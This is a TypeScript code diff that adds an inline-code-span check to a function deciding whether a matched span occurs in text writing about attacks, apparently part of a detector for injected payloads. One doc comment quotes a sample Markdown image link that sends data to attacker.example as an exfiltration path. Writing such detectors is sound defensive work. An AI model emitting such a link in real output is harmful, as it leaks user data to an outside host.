@@ -525,6 +525,21 @@ function inFence(text: string, pos: number): boolean {
   return n % 2 === 1;
 }
 
+/**
+ * Whether `pos` lies in an inline code span: an odd number of backticks before it on its line and one after it there. A
+ * glossary sets a payload out that way ("Markdown image rendering is a common exfiltration path
+ * (`![](https://attacker.example/?q=<data>)`)", thirty-third set); it counts only where the text writes about attacks.
+ */
+function inInlineCode(text: string, pos: number): boolean {
+  const lineStart = text.lastIndexOf('\n', pos - 1) + 1;
+  let n = 0;
+  for (let i = text.indexOf('`', lineStart); i >= 0 && i < pos; i = text.indexOf('`', i + 1)) n++;
+  if (n % 2 === 0) return false;
+  const close = text.indexOf('`', pos);
+  const lineEnd = text.indexOf('\n', pos);
+  return close >= 0 && (lineEnd < 0 || close < lineEnd);
+}
+
 /** What introduces an indented block as an example, on the last unindented line before it. */
 const BLOCK_INTRO = /(?:\blike this|\blooks like|\bsuch as|\bas follows|\bfor (?:example|instance)|\be\.g\.|\bexamples?\b|\bbelow|\bsomething like|\bparaphrased)[^\n]{0,160}:?\s{0,2}$/i;
 
@@ -643,7 +658,7 @@ export function talksAboutAttack(text: string, start: number, end: number, page:
     inIndentedExample(text, start) ||
     afterCausative(text, start) ||
     inUrl(text, start, end) ||
-    ((quotesWords(text, openingQuote(text, start)) || quotesWords(text, openingQuote(text, end - 1)) || inFence(text, start)) && (page === null ? writesAboutAttacks(text) : pageWritesAboutAttacks(page))) ||
+    ((quotesWords(text, openingQuote(text, start)) || quotesWords(text, openingQuote(text, end - 1)) || inFence(text, start) || inInlineCode(text, start)) && (page === null ? writesAboutAttacks(text) : pageWritesAboutAttacks(page))) ||
     (page !== null && (inDisplayedMarkup(text, start) || inDisplayedMarkup(text, end - 1) || inExample(page, start) || inExample(page, end - 1) || inControlLabel(page, start, end)))
   );
 }
